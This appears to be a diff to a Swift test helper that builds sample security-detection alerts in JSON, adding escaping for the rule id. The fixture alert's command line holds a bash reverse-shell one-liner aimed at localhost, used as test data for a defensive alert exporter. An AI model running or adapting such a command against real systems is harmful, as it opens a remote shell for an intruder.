@@ -43,7 +43,8 @@ func readLines(_ path: String) -> [String] {
 /// A sample alert with a realistic ECS body and fields that need escaping.
 func sampleAlert(rule: String = "proc_reverse_shell", severity: AlertSeverity = .high, n: Int = 0,
                  incident: String = "inc-42", extraBody: String = "") -> ExportAlert {
-    let body = #"{"@timestamp":"2026-11-27T07:02:13.123456Z","event":{"kind":"alert","severity":80},"rule":{"id":"\#(rule)","name":"Reverse shell \"bash -i\""},"process":{"pid":\#(1000 + n),"command_line":"bash -i >& /dev/tcp/127.0.0.1/4444 0>&1 ü"}\#(extraBody)}"# + "\n"
+    let jsonRule = rule.replacingOccurrences(of: "\\", with: "\\\\").replacingOccurrences(of: "\"", with: "\\\"")
+    let body = #"{"@timestamp":"2026-11-27T07:02:13.123456Z","event":{"kind":"alert","severity":80},"rule":{"id":"\#(jsonRule)","name":"Reverse shell \"bash -i\""},"process":{"pid":\#(1000 + n),"command_line":"bash -i >& /dev/tcp/127.0.0.1/4444 0>&1 ü"}\#(extraBody)}"# + "\n"
     return ExportAlert(line: Array(body.utf8), severity: severity, ruleId: rule, riskScore: 80 + n % 20,
                        incidentId: incident, techniques: ["T1059.004", "T1071"],
                        timeUnixNano: 1_795_763_533_123_456_789)
